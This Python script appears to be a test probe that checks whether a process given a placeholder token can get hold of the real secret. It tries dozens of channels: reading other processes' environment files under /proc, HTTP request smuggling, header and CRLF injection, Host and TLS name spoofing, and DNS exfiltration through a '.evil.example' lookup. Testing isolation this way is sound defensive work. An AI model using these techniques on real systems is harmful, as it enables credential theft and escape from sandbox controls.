"""A program that holds a placeholder and wants the secret: it tries what it can think of, and prints all
that it got.

Arguments: the ports of the granted API, of another API, of a raw and a datagram service; a file with the
placeholder.
"""

import base64
import glob
import http.client
import os
import socket
import ssl
import subprocess
import sys
from collections.abc import Callable, Iterable, Iterator, Mapping
from pathlib import Path
from typing import Any

# Seconds for an answer: all come at once, but on a busy machine.
PATIENCE = 30
API, OTHER, RAW, DATAGRAMS = map(int, sys.argv[1:5])
WORD = os.environ["TOKEN"]
BEARER = {"Authorization": f"Bearer {WORD}"}


def ask(
    port: int,
    path: str = "/v1/x",
    headers: Mapping[str, str] | None = None,
    method: str = "GET",
    body: str | Iterable[bytes] | None = None,
) -> object:
    kind = http.client.HTTPConnection if port == OTHER else http.client.HTTPSConnection
    connection = kind("localhost", port, timeout=PATIENCE)
    connection.request(method, path, body, dict(headers or {}))
    answer = connection.getresponse()
    return answer.status, answer.getheaders(), answer.read()


def speak(*pieces: str, name: str = "localhost", tls: bool = True, port: int | None = None) -> bytes:
    plain = socket.create_connection(("localhost", port or API), timeout=PATIENCE)
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    stream = context.wrap_socket(plain, server_hostname=name) if tls else plain
    for piece in pieces:
        stream.sendall(piece.encode())
    got = b""
    while part := stream.recv(65536):
        got += part
    return got


def send(text: str) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(PATIENCE)
        sender.connect(("127.0.0.1", DATAGRAMS))
        sender.send(b"first")
        sender.send(text.encode())
        return sender.recv(100)


def head(line: str, *headers: str, host: str = "localhost") -> str:
    return "\r\n".join([f"{line} HTTP/1.1", f"Host: {host}:{API}", *headers, "", ""])


def environments() -> Iterator[tuple[str, object]]:
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            yield path, Path(path).read_bytes()
        except OSError as error:
            yield path, error


AUTHORIZED = f"Authorization: Bearer {WORD}"
WAYS: dict[str, Callable[[], Any]] = {
    "my environment": lambda: dict(os.environ),
    "the file": lambda: Path(sys.argv[5]).read_text(),
    "other environments": lambda: list(environments()),
    "strings of init": lambda: Path("/proc/1/cmdline").read_text() + Path("/proc/1/maps").read_text(),
    "an honest echo": lambda: ask(API, headers=BEARER),
    "an echo in gzip": lambda: ask(API, headers=BEARER | {"Accept-Encoding": "gzip"}),
    "a part of an echo": lambda: ask(API, headers=BEARER | {"Range": "bytes=0-20"}),
    "TRACE": lambda: ask(API, headers=BEARER, method="TRACE"),
    "basic credentials": lambda: ask(
        API, headers={"Authorization": "Basic " + base64.b64encode(f"a:{WORD}".encode()).decode()}
    ),
    "another header": lambda: ask(API, headers={"X-Token": WORD}),
    "a cookie": lambda: ask(API, headers={"Cookie": f"a={WORD}"}),
    "the path": lambda: ask(API, path=f"/v1/{WORD}"),
    "the query": lambda: ask(API, path=f"/v1/x?q={WORD}"),
    "the body": lambda: ask(API, method="POST", body=WORD),
    "the body in chunks": lambda: ask(API, method="POST", body=iter([WORD[:9].encode(), WORD[9:].encode()])),
    "a forbidden path": lambda: ask(API, path="/v2/echo", headers=BEARER),
    "another API": lambda: ask(OTHER, headers=BEARER),
    "another API's body": lambda: ask(OTHER, method="POST", body=WORD),
    "a raw connection": lambda: speak(f"hello {WORD}\n", tls=False, port=RAW),
    "a raw connection in pieces": lambda: speak(*WORD, tls=False, port=RAW),
    "a datagram": lambda: send(f"hello {WORD}"),
    "another Host": lambda: speak(head("GET /v1/x", AUTHORIZED, host="other.example")),
    "another name in TLS": lambda: speak(head("GET /v1/x", AUTHORIZED), name="other.example"),
    "a whole URL": lambda: speak(head(f"GET https://localhost:{OTHER}/v1/x", AUTHORIZED)),
    "CONNECT": lambda: speak(head(f"CONNECT localhost:{RAW}", AUTHORIZED)),
    "an upgrade": lambda: speak(head("GET /v1/x", AUTHORIZED, "Upgrade: echo", "Connection: upgrade")),
    "a second request in the first": lambda: speak(
        head("POST /v1/x", "Content-Length: 5", "Transfer-Encoding: chunked")
        + "0\r\n\r\n"
        + head("GET /v1/x", AUTHORIZED)
    ),
    "a folded header": lambda: speak(head("GET /v1/x", "X-A: b", f" Authorization: {WORD}")),
    "a line break in a header": lambda: speak(head("GET /v1/x", f"{AUTHORIZED}\nX-Copy: {WORD}")),
    "two of the header": lambda: speak(head("GET /v1/x", AUTHORIZED, AUTHORIZED)),
    "hop by hop": lambda: speak(head("GET /v1/x", AUTHORIZED, "Connection: authorization, close")),
    "HTTP/2": lambda: speak("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    "without TLS": lambda: speak(head("GET /v1/x", AUTHORIZED), tls=False),
    "a name": lambda: socket.getaddrinfo(f"{WORD}.evil.example", 80),
    "a core": lambda: subprocess.run(["sh", "-c", "ulimit -c unlimited; kill -SEGV $$"], check=False),
}

for way, attempt in WAYS.items():
    try:
        print(f"== {way}:", attempt(), flush=True)
    except Exception as error:
        print(f"== {way}: {type(error).__name__}: {error}", flush=True)
